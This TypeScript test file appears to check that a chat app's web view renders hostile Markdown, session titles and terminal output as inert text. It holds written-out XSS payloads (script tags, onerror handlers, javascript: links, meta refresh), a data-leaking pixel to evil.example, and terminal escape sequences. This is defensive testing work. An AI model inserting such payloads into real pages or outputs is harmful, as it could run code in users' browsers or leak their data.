import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { routes } from '../../src/protocol/http/routes.ts'
import { useWorld } from '../support/world.ts'
import { useBrowser } from './support/browser.ts'

const world = useWorld()
const visit = useBrowser()

const markdown = `# Hello <img src=x onerror="window.hit=1">

<script>window.hit = 1</script>
<img src="https://evil.example/a.png"> <iframe src="https://evil.example/"></iframe>
<svg onload="window.hit=1"></svg>

![pixel](https://evil.example/pixel.png?data=secret) ![ref][r]
[click](javascript:window.hit=1) [data](data:text/html,<script>1</script>) [vb](vbscript:x)
[<b onmouseover="window.hit=1">bold</b>](https://ok.example/)
<a href="javascript:window.hit=1">x</a> <style>body{display:none}</style>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">

[r]: https://evil.example/ref.png "onload=window.hit=1"

\`\`\`html
<script>window.hit = 1</script>
\`\`\`

| a | <img src=x onerror=window.hit=1> |
|---|---|
| \`<script>\` | ![t](https://evil.example/t.png) |

&lt;script&gt;window.hit=1&lt;/script&gt; <https://autolink.example/> www.evil.example
`

test('[WEB14] hostile Markdown runs nothing, loads nothing and stays in its place', async () => {
  const session = await world.server.session()
  world.model.say(markdown)
  const { page, say, sees, foreign, faults } = await visit(world.server, { session: session.id })
  await say('hello')
  await sees(page.locator('.reply[aria-busy="false"]'))
  await sees('window.hit = 1')
  // The words stand there as they are until the part of the page that draws Markdown is loaded.
  await sees(page.locator('.reply a').first())
  const found = await page.evaluate(() => ({
    hit: 'hit' in globalThis,
    elements: document.querySelectorAll(
      '.reply :is(img, script, iframe, svg:not(.icon), style, base, meta, object, link, form)',
    ).length,
    links: [...document.querySelectorAll<HTMLAnchorElement>('.reply a')].map(
      ({ protocol }) => protocol,
    ),
    handlers: [...document.querySelectorAll('.reply *')].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith('on')),
    ).length,
  }))
  expect(found).toMatchObject({ hit: false, elements: 0, handlers: 0 })
  expect(new Set(found.links)).toEqual(new Set(['https:', 'http:']))
  expect([foreign, faults]).toEqual([[], []])
})

test('[WEB14] hostile output, names and titles are only text', async () => {
  const evil =
    '<img src=https://evil.example/o.png onerror="window.hit=1"><script>window.hit=1</script>'
  const session = await world.server.session()
  await world.server.client.call(routes.updateSession, {
    params: { id: session.id },
    body: { title: `\u202E${evil}` },
  })
  const file = join(world.server.workspace, 'evil.txt')
  const controls =
    '\x1b]0;title\x07\x1b]8;;javascript:window.hit=1\x07link\x1b]8;;\x07\x1b[2J\x1b]52;c;aGk=\x07\x1b[38;2;1;2;3mrgb\x1b[0m'
  await writeFile(file, `${evil}\n${controls}\n\u202Eturned\n`)
  const { page, say, run, sees, foreign, faults } = await visit(world.server, {
    session: session.id,
  })
  await say(`!cat evil.txt # ${evil}`)
  await sees(run('cat evil.txt').locator('pre', { hasText: 'window.hit=1' }))
  await sees(run('cat evil.txt').getByText('rgb', { exact: true }))
  const found = await page.evaluate(() => ({
    hit: 'hit' in globalThis,
    images: document.querySelectorAll('img, iframe').length,
    links: document.querySelectorAll('.msg-shell a').length,
    title: document.title,
  }))
  expect(found).toMatchObject({ hit: false, images: 0, links: 0 })
  expect(found.title).toContain('· Tandem')
  expect([foreign, faults]).toEqual([[], []])
})
